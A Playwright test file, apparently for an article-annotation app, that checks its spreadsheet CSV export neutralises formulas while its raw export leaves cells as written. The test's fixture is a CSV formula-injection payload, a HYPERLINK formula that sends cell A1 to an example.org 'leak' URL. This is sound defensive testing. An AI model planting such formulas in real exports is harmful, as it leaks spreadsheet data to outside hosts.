import { readFile } from "node:fs/promises";
import { expect, type Page, test } from "@playwright/test";
import Papa from "papaparse";
import { dragSelect, HARRIS_TITLE, openArticle, tagSelection, watchConsole } from "./helpers";

async function downloadCsv(page: Page, button: string) {
  await page.getByText("More formats").click();
  const downloading = page.waitForEvent("download");
  await page.getByRole("button", { name: button }).click();
  const file = await downloading;
  const content = await readFile((await file.path()) ?? "", "utf8");
  return {
    name: file.suggestedFilename(),
    rows: Papa.parse<string[]>(content.slice(1), { skipEmptyLines: true }).data,
  };
}

const FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"open")';

test("the CSV for spreadsheets neutralises formulas; the raw CSV keeps every cell as it is", async ({
  page,
}) => {
  const errors = watchConsole(page);
  await openArticle(page, HARRIS_TITLE);
  await dragSelect(page, "We want to work with you");
  await tagSelection(page, "Quote");
  const note = page.getByRole("list", { name: "Annotations" }).getByRole("textbox", { name: "Note" });
  await note.fill(FORMULA);
  await note.press("Tab");

  const forSpreadsheets = await downloadCsv(page, "Export CSV for spreadsheets");
  expect(forSpreadsheets.rows[1]?.slice(5, 9)).toEqual(["We want to work with you", "", `'${FORMULA}`, ""]);

  const raw = await downloadCsv(page, "Export CSV, raw");
  expect(raw.name).toMatch(/-raw\.csv$/);
  expect(raw.rows[1]?.slice(5, 9)).toEqual(["We want to work with you", "", FORMULA, ""]);
  expect(errors).toEqual([]);
});
